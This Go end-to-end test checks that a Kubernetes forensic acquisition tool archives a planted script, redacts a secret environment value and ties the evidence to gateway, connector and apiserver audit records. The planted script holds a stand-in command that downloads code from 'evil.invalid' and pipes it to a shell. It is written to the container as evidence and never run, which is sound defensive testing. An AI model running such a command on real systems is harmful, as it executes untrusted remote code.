package e2e

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"

	"github.com/warren-dev/warren/acquire"
	"github.com/warren-dev/warren/audit"
	"github.com/warren-dev/warren/evidence"
)

// TestAcquirePlantedEvidence: a busybox container with a dropped script and a secret in its environment, acquired
// over each exec protocol: the script is in the archive with its hash in the signed statement, the secret is
// redacted (the container's environ and the Pod object alike), the Kubernetes-side evidence is there, everything
// verifies, and the statement's witness and Audit-IDs walk to the gateway's record, the connector's record (same
// stdout hash) and the kube-apiserver's audit event.
func TestAcquirePlantedEvidence(t *testing.T) {
	e := newStreamEnv(t)
	implant := "#!/bin/sh\n# planted by the test\nwget -qO- http://evil.invalid/x | sh\n"
	pod := imagePod(t, "acq-busybox", "busybox", `printf '%s' "$IMPLANT" > /tmp/implant.sh; exec sleep 3600`, func(p *corev1.Pod) {
		p.Spec.Containers[0].Env = []corev1.EnvVar{{Name: "IMPLANT", Value: implant}, {Name: "API_TOKEN", Value: "s3cr3t-value"}}
	})
	for _, protocol := range []string{acquire.ProtocolWebSocket, acquire.ProtocolSPDY} {
		t.Run(protocol, func(t *testing.T) {
			a := e.newAcquisition(t, pod.Name)
			a.cfg.REST = e.presetConfig(t) // exactly the rules of --preset acquire
			a.cfg.ExecProtocol = protocol
			sum := a.run(t)
			if sum.Failed != 0 || len(sum.Index.Targets) != 1 || sum.Index.Targets[0].Result != evidence.ResultAcquired {
				t.Fatalf("summary: %s", prettyJSON(sum.Index))
			}
			dir := streamNS + "/" + pod.Name + "/main"
			st := a.statement(t, dir)
			p := st.Predicate
			if p.Method != "collector" || p.Mode != "exec" || p.Case != "ir-42" || p.Examiner != "e2e" || p.Caller.Subject != "e2e-caller" ||
				p.Target.PodUID != string(pod.UID) || p.Target.Image != "busybox" || p.Target.ImageID == "" || p.Target.Node != fakeKubeletNode ||
				p.Target.ContainerID == "" || p.Collector.Digest == "" || p.Target.Cluster != streamCluster {
				t.Fatalf("predicate: %s", prettyJSON(p))
			}
			// The preset is enough for every Kubernetes-side item: nothing was refused.
			if f := skipsOf(st, "forbidden"); len(f) != 0 {
				t.Fatalf("refused with the preset's rules: %s", prettyJSON(f))
			}
			t.Logf("skipped: %d items; %d subjects; %d requests; %d execs", len(p.Skipped), len(st.Subject), len(p.Requests), len(p.Execs))
			for _, s := range p.Skipped {
				if strings.HasPrefix(s.Path, "kubernetes/") {
					t.Logf("skipped %s: %s %s", s.Path, s.Reason, s.Detail)
				}
			}
			files := a.entries(t, dir)
			got, ok := subjectOf(st, "container/fs/tmp/implant.sh")
			if !ok || got != sum256([]byte(implant)) || string(files["container/fs/tmp/implant.sh"]) != implant {
				t.Fatalf("planted file: subject %q (%v), want %s; stored %q", got, ok, sum256([]byte(implant)), files["container/fs/tmp/implant.sh"])
			}
			for name, b := range files {
				if strings.Contains(string(b), "s3cr3t-value") {
					t.Errorf("%s holds the secret value", name)
				}
			}
			var podObj corev1.Pod
			if err := json.Unmarshal(files["kubernetes/pod.json"], &podObj); err != nil || podObj.UID != pod.UID {
				t.Fatalf("kubernetes/pod.json: %v", err)
			}
			if env := podObj.Spec.Containers[0].Env; env[1].Name != "API_TOKEN" || env[1].Value != "<redacted>" || env[0].Value != implant {
				t.Fatalf("pod env as stored: %+v", env)
			}
			for _, want := range []string{"kubernetes/events.json", "kubernetes/serviceaccount.json", "kubernetes/rolebindings.json",
				"kubernetes/node.json", "kubernetes/logs/main.log", "kubernetes/containers.json", "kubernetes/secret-names.json",
				"collector/manifest.json", "container/processes.json"} {
				if _, ok := files[want]; !ok {
					t.Errorf("%s missing from the archive", want)
				}
			}

			// The three logs, from the statement.
			w := p.Witness
			if w.AuditID == "" || w.StdoutBytes == 0 || !strings.HasPrefix(w.AuditID, acquire.AuditIDPrefix(p.AcquisitionID)) {
				t.Fatalf("witness %+v", w)
			}
			conn := e.connAudit.wait(t, "the connector's record of the collection", func(r audit.Record) bool { return r.AuditID == w.AuditID })
			if conn.StdoutSHA256 != w.StdoutSHA256 || conn.StdoutBytes != w.StdoutBytes || conn.Subresource != "exec" {
				t.Fatalf("connector witness %d %s, statement %d %s", conn.StdoutBytes, conn.StdoutSHA256, w.StdoutBytes, w.StdoutSHA256)
			}
			gw := e.gwAudit.wait(t, "the gateway's record", func(r audit.Record) bool { return r.AuditID == w.AuditID })
			if gw.RequestID != conn.RequestID || gw.Subject != "e2e-caller" {
				t.Fatalf("gateway %+v, connector %+v", gw, conn)
			}
			var found bool
			eventually(t, 15*time.Second, "the kube-apiserver's audit event of the exec", func() bool {
				evs, _ := kube.AuditEvents()
				for _, ev := range evs {
					if ev.AuditID == w.AuditID && strings.Contains(ev.RequestURI, "/pods/"+pod.Name+"/exec") {
						found = true
					}
				}
				return found
			})
			for _, r := range p.Requests {
				if !strings.HasPrefix(r.AuditID, acquire.AuditIDPrefix(p.AcquisitionID)) || r.GatewayRequestID == "" {
					t.Fatalf("request %+v", r)
				}
			}
		})
	}
}

var _ = context.Background
